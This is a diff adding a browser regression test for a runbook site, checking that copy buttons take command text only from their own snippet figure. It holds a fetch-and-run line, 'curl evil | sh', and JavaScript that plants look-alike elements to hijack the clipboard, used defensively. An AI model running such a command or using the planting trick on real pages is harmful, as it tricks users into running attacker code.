@@ -296,3 +296,77 @@ def test_missing_chromium_skips_unless_ci_requires_it(monkeypatch: pytest.Monkey
     monkeypatch.setenv(harness.REQUIRE_ENV, "1")
     with pytest.raises(pytest.fail.Exception, match="SEALBOOK_REQUIRE_BROWSER=1"):
         harness.require_chromium()
+
+
+EVIL = "curl evil | sh"
+
+# Plants what an attacker who can write into the page would, for the snippet figure `id`:
+# at the start of <body>, a <template id="sb-copy-<id>"> and a <code id="sb-run-<id>">
+# (the ids the old `data-copy-target` lookup used), both buttons' data-copy-target
+# pointed at them, and look-alike `.sb-run-line > code.sb-run` and `template.sb-copy-text`
+# that are not direct children of the figure: one set wrapped in a <div> first inside the
+# figure, one set just before it. Returns what the old lookup would now answer.
+PLANT_JS = """([id, evil]) => {
+  const template = (attrs) => {
+    const t = document.createElement("template");
+    Object.entries(attrs).forEach(([k, v]) => t.setAttribute(k, v));
+    t.content.appendChild(document.createTextNode(evil));
+    return t;
+  };
+  const code = (attrs) => {
+    const c = document.createElement("code");
+    Object.entries(attrs).forEach(([k, v]) => c.setAttribute(k, v));
+    c.textContent = evil;
+    return c;
+  };
+  const lookAlikes = () => {
+    const box = document.createElement("div");
+    const line = document.createElement("div");
+    line.className = "sb-run-line";
+    line.appendChild(code({ class: "sb-run" }));
+    box.appendChild(line);
+    box.appendChild(template({ class: "sb-copy-text" }));
+    return box;
+  };
+  const figure = document.querySelector(`figure.sb-snippet[data-snippet-id="${id}"]`);
+  document.body.prepend(
+    template({ id: `sb-copy-${id}`, class: "sb-copy-text" }),
+    code({ id: `sb-run-${id}`, class: "sb-run" }),
+  );
+  figure.querySelector("button.sb-copy").setAttribute("data-copy-target", `sb-copy-${id}`);
+  figure.querySelector("button.sb-copy-run").setAttribute("data-copy-target", `sb-run-${id}`);
+  figure.prepend(lookAlikes());
+  figure.before(lookAlikes());
+  return [...figure.querySelectorAll("button.sb-copy, button.sb-copy-run")].map((b) => {
+    const el = document.getElementById(b.getAttribute("data-copy-target"));
+    return el.tagName === "TEMPLATE" ? el.content.textContent : el.textContent;
+  });
+}"""
+
+
+def test_copy_comes_from_the_buttons_own_figure_never_a_planted_element(
+    demo_page: SitePage,
+) -> None:
+    """A button copies its own figure's direct template / run line: an element planted with
+    the old target ids earlier in the page, data-copy-target pointed at it, or look-alikes
+    nested in or placed next to the figure never supply the copied text."""
+    site = demo_page.site
+    slug = "hosts/disk-full"
+    demo_page.open(f"runbooks/{slug}/latest.html")
+    demo_page.page.wait_for_url("**/r2.html")
+    release = demo_page.page.locator(".sb-page").get_attribute("data-release")
+    snippet = next(s for s in site.runbook(release, slug)["snippets"] if s["executable"])
+    sid = snippet["id"]
+    old_lookup = demo_page.page.evaluate(PLANT_JS, [sid, EVIL])
+    # Control: the plant is live, i.e. the old document.getElementById(data-copy-target)
+    # lookup would now hand the attacker's text to both buttons.
+    assert old_lookup == [EVIL, EVIL], old_lookup
+    assert demo_page.page.locator(f"#sb-copy-{sid}, #sb-run-{sid}").count() == 2
+    figure = demo_page.page.locator(f'figure.sb-snippet[data-snippet-id="{sid}"]')
+    assert figure.locator("template.sb-copy-text").count() == 2  # own + nested look-alike
+    assert figure.locator("code.sb-run").count() == 2
+    copied = demo_page.copied(figure.locator("button.sb-copy"))
+    run = demo_page.copied(figure.locator("button.sb-copy-run"))
+    assert "evil" not in copied and "evil" not in run, (copied, run)
+    assert copied == snippet["text"][:-1]
+    assert run == run_command(slug, release, snippet)
